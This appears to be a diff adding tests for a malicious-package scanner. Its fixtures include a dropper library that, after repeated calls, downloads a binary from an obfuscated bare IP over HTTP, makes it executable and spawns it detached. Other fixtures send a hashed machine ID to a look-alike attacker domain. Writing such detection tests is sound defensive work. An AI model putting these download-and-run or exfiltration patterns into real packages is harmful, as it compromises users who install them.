@@ -1,0 +1,115 @@
+/**
+ * Shapes from the twentieth session: round 77 (evasive triggers and environmental keying), written
+ * blind by a helper that had not read the engine. Each is rewritten small and varied here, with a
+ * look-alike that must stay quiet or an attack that must still be caught.
+ */
+import { analyzeSource } from './helpers';
+
+const threats = (r: ReturnType<typeof analyzeSource>) =>
+  r.evidence.filter((f): f is typeof f & { threat_type: string } => 'threat_type' in f);
+const ruleOf = (r: ReturnType<typeof analyzeSource>, rule: string) =>
+  threats(r)
+    .filter((f) => f.rule === rule)
+    .sort((a, b) => b.confidence - a.confidence)[0];
+
+describe('a download run by code a user calls, from a bare IP over plain HTTP, started detached', () => {
+  const pkg = (fetcher: string, start: string) => ({
+    'package.json': JSON.stringify({ name: 'pathmap-cache', version: '2.1.0', main: 'index.js' }),
+    'index.js': [
+      "const { refresh } = require('./lib/fetch');",
+      'let calls = 0;',
+      'exports.resolve = (spec) => { if (++calls > 10) refresh(); return spec; };',
+    ].join('\n'),
+    'lib/fetch.js': [
+      "const fs = require('fs');",
+      "const os = require('os');",
+      "const path = require('path');",
+      "const { spawn } = require('child_process');",
+      fetcher,
+      'function refresh() {',
+      "  const file = path.join(os.homedir(), '.cache', 'pathmap', 'indexd');",
+      '  get((res) => {',
+      '    const out = fs.createWriteStream(file);',
+      '    res.pipe(out);',
+      "    out.on('finish', () => {",
+      '      fs.chmodSync(file, 0o755);',
+      `      ${start}`,
+      '    });',
+      '  });',
+      '}',
+      'module.exports = { refresh };',
+    ].join('\n'),
+  });
+  const rawIp = [
+    "const http = require('http');",
+    'const PARTS = { a: [45, 137], b: [21, 9] };',
+    "const host = [...PARTS.a, ...PARTS.b].join('.');",
+    "const get = (cb) => http.get({ host, port: 8080, path: '/bin/' + process.platform }, cb);",
+  ].join('\n');
+  const named = [
+    "const https = require('https');",
+    "const get = (cb) => https.get('https://downloads.pathmap.dev/indexd-' + process.platform, cb);",
+  ].join('\n');
+
+  it('is critical: two or more of a bare IP, plain HTTP and a detached start', () => {
+    const r = analyzeSource(
+      pkg(rawIp, "spawn(file, ['--serve'], { detached: true, stdio: 'ignore' }).unref();"),
+    );
+    expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBeGreaterThanOrEqual(0.85);
+    expect(r.risk_level).toBe('critical');
+  });
+
+  it('is critical from a bare IP over plain HTTP started in the foreground too', () => {
+    const r = analyzeSource(pkg(rawIp, "spawn(file, ['--serve'], { stdio: 'inherit' });"));
+    expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBe(0.8);
+    expect(r.risk_level).toBe('critical');
+  });
+
+  it('stays a warning from a named host over HTTPS, even started detached', () => {
+    const r = analyzeSource(
+      pkg(named, "spawn(file, ['--serve'], { detached: true, stdio: 'ignore' }).unref();"),
+    );
+    expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBe(0.75);
+    expect(r.risk_level).toBe('warning');
+  });
+});
+
+describe('usage data with a hashed machine id, sent to the package’s own service', () => {
+  const pkg = (host: string) => ({
+    'package.json': JSON.stringify({
+      name: 'mdpress',
+      version: '0.3.0',
+      bin: { mdpress: 'bin/cli.js' },
+      main: 'lib/index.js',
+    }),
+    'bin/cli.js': "require('../lib/usage').report(process.argv[2] || 'build');",
+    'lib/index.js': "exports.build = () => require('./usage').report('build');",
+    'lib/usage.js': [
+      "const os = require('os');",
+      "const https = require('https');",
+      "const crypto = require('crypto');",
+      'function report(command) {',
+      "  if (process.env.CI || process.env.DO_NOT_TRACK === '1') return;",
+      "  const id = crypto.createHash('sha256').update('mdpress:' + os.hostname()).digest('hex').slice(0, 12);",
+      '  const body = JSON.stringify({ id, command, os: process.platform });',
+      `  const req = https.request({ host: '${host}', path: '/e', method: 'POST' }, (r) => r.resume());`,
+      "  req.on('error', () => {});",
+      '  req.end(body);',
+      '}',
+      'module.exports = { report };',
+    ].join('\n'),
+  });
+
+  it('to a host under the package’s own domain, given as an options object: clean', () => {
+    const r = analyzeSource(pkg('events.mdpress.dev'));
+    expect(ruleOf(r, 'js.exfil-fingerprint')?.confidence).toBeLessThan(0.5);
+    expect(ruleOf(r, 'js.fingerprint-same-scope')).toBeUndefined();
+    expect(r.risk_level).toBe('clean');
+  });
+
+  it('to a host named after the package one level down (an attacker’s domain): still a warning', () => {
+    const r = analyzeSource(pkg('mdpress.stats-relay.net'));
+    expect(ruleOf(r, 'js.exfil-fingerprint')?.confidence).toBeGreaterThanOrEqual(0.5);
+    expect(r.risk_level).toBe('warning');
+  });
+});
